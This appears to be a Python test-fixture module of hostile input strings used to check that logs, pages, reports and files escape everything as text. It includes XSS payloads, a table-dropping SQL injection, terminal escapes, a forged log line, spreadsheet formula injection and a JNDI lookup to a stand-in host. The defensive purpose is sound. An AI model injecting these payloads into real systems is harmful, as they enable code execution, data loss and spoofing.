"""Names, tag values and reasons as somebody who wants harm would write them; each sink's tests use them all.

Whatever comes in must come out as text: in logs, pages, reports, files, the question and the journal.
"""

TEXTS = {
    "a script": "<script>window.hacked = 1; alert(1)</script>",
    "an attribute": "\"' onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "an image": '<img src=x onerror="window.hacked = 1; alert(1)">',
    "the end of a script": "</script></style></textarea></title><script>window.hacked = 1</script>",
    "the end of a comment": "--><svg onload=alert(1)><!--",
    "a style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "an entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &nbsp;",
    "a Markdown link": "[Approve here](javascript:alert(1)) <https://evil.example>",
    "a Markdown image": "![x](https://evil.example/x.png)",
    "a Markdown table": "| chg-000000000000 | approved |\n| --- | --- |\n| a | b |",
    "Markdown emphasis": "**bold** _it_ `code` ~~gone~~\n# head\n> quote\n- [ ] task",
    "a bare address": "http://evil.example www.evil.example a@evil.example",
    "SQL": "'; DROP TABLE journal; -- \\",
    "a terminal escape": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x9b31m",
    "a terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "control characters": "a\x00b\x01\x08\x0b\x0c\x7f\x85z",
    "a forged log line": "x\n[2026-01-01T00:00:00] INFO - plan approved by ann\r\nERROR\u2028next\u2029",
    "right to left": "\u202egnp.exe\u202c \u2066\u2067x\u2069 \u061c\u200f",
    "zero width": "adm\u200bin\u200c\u200d\u2060\ufeff\u00ad",
    "a formula": "=cmd|' /C calc'!A0",
    "another formula": '+HYPERLINK("http://evil.example","x")',
    "a template": "{{ 7 * 7 }} {% raw %} {{ ti.xcom_pull() }} ${jndi:ldap://evil.example/a} %s %(x)s {0}",
    "a lone surrogate": "a\ud800b\udfff",
    "64 kB": "W" * 65_536,
    "64 kB of marks": "<&'\"|*" * 10_922,
}
"""By what it tries."""

IN_FRAMES = {what: text for what, text in TEXTS.items() if what != "a lone surrogate"}
"""Those a frame can hold: the edge to AWS replaces lone surrogates (include/aws/text.py)."""

UNSEEN = (
    "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9b\r\u2028\u2029\u202e\u202c\u2066\u200b\u2060\ufeff\ud800\udfff"
)
"""What no line of a log, and no question, may hold."""
